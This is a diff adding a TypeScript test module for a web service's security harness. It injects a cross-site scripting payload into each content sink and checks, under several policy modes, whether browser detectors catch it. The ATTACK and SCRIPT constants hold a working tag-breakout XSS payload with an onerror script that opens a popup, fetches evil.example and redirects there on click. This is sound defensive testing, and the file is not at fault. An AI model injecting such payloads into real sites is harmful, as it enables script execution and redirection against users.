@@ -1,0 +1,120 @@
+import type { Browser } from 'playwright-core'
+import { openArena } from './arena.ts'
+import { POLICY_MODES, type PolicyMode } from './gate.ts'
+import { append, publish, type Published, type Service } from './service.ts'
+import type { Sink } from './sink.ts'
+import { show, type View } from './views.ts'
+
+/** What came of one control: which detectors should have fired and did not, which should not have and did. */
+export interface ControlResult {
+  readonly sink: string
+  readonly view: View
+  readonly mode: PolicyMode
+  readonly missing: readonly string[]
+  readonly unwanted: readonly string[]
+}
+
+const SCRIPT =
+  'if(window.qpGlobal)return;qpGlobal=1;alert(1);console.log(1);' +
+  "window.open('https://evil.example/popup');fetch('https://evil.example/fetch')"
+
+/** Leaves whatever it stands in, runs as soon as it is read, and leads away once it is clicked. */
+const ATTACK = `qp"'></style></title></textarea></code></pre><img src="data:," onerror="${SCRIPT}" onclick="location='https://evil.example/away'">`
+
+/** The detectors that tell of a script that runs. */
+const RUNNING = ['parsed', 'call', 'global', 'console', 'popup', 'request', 'navigation'] as const
+
+/** Which controls to run; all of them unless it says otherwise. */
+export interface ControlChoice {
+  readonly modes: readonly PolicyMode[]
+  /** `false`: the first view of each sink only. */
+  readonly allViews: boolean
+}
+
+/**
+ * Puts an attack into each sink behind the sanitizer's back and looks whether the detectors see it. With the
+ * policy kept nothing may run, but the violation must show; stripped or loosened, all detectors must fire.
+ */
+export async function runControls(
+  browser: Browser,
+  service: Service,
+  sinks: readonly Sink[],
+  { modes, allViews }: ControlChoice = { modes: POLICY_MODES, allViews: true },
+): Promise<ControlResult[]> {
+  const pages = new Map<Sink, Published>()
+  for (const sink of sinks) pages.set(sink, await publishMark(service, sink))
+  const perMode = await Promise.all(modes.map((mode) => controlsIn(browser, service, pages, mode, allViews)))
+  return perMode.flat()
+}
+
+async function controlsIn(
+  browser: Browser,
+  service: Service,
+  pages: ReadonlyMap<Sink, Published>,
+  mode: PolicyMode,
+  allViews: boolean,
+): Promise<ControlResult[]> {
+  const results: ControlResult[] = []
+  for (const mark of new Set([...pages.keys()].map((sink) => sink.mark))) {
+    const arena = await openArena(browser, service.origin, mode, { mark, attack: ATTACK })
+    for (const [sink, page] of pages) {
+      if (sink.mark !== mark) continue
+      for (const view of viewsOf(sink).slice(0, allViews ? undefined : 1)) {
+        const documents = sink.framed === true ? 1 : 0
+        const expected = expectedOf(sink, view, mode)
+        const { findings } = await show(arena, {
+          pages: [page],
+          view,
+          blocks: 0,
+          documents,
+          awaited: expected.fire,
+        })
+        results.push({ sink: sink.name, view, mode, ...judged(findings, expected) })
+      }
+    }
+    await arena.close()
+  }
+  return results
+}
+
+function viewsOf({ shape, framed = false }: Sink): readonly View[] {
+  if (shape === 'page') return ['in frames']
+  return framed ? ['page', 'documents'] : ['page', 'preview']
+}
+
+async function publishMark(service: Service, sink: Sink): Promise<Published> {
+  const made = sink.make(sink.mark, 0)
+  if (typeof made === 'string') {
+    const page = (await publish(service, { content: 'Start' })) as Published
+    await append(service, page, made)
+    return page
+  }
+  return (await publish(service, sink.shape === 'page' ? made : { blocks: made })) as Published
+}
+
+interface Expected {
+  readonly fire: readonly string[]
+  readonly silent: readonly string[]
+}
+
+function expectedOf(sink: Sink, view: View, mode: PolicyMode): Expected {
+  if (mode === 'kept')
+    return { fire: view === 'preview' ? ['latent'] : ['violation', 'latent'], silent: RUNNING }
+  // That the page itself is led away can only be told where it shows the sink itself.
+  const top = view === 'page' && sink.framed !== true
+  const sandboxed =
+    sink.shape === 'blocks' && sink.framed === true && (view === 'page' || mode === 'loosened')
+  const running = RUNNING.filter((name) => top || name !== 'navigation')
+  return { fire: [...running, 'latent', sandboxed ? 'refused' : 'dialog'], silent: [] }
+}
+
+function judged(
+  findings: readonly string[],
+  { fire, silent }: Expected,
+): Pick<ControlResult, 'missing' | 'unwanted'> {
+  const fired = new Set(findings.map((finding) => finding.split(' ')[0]))
+  return {
+    missing: fire.filter((detector) => !fired.has(detector)),
+    unwanted: silent.filter((detector) => fired.has(detector)),
+  }
+}
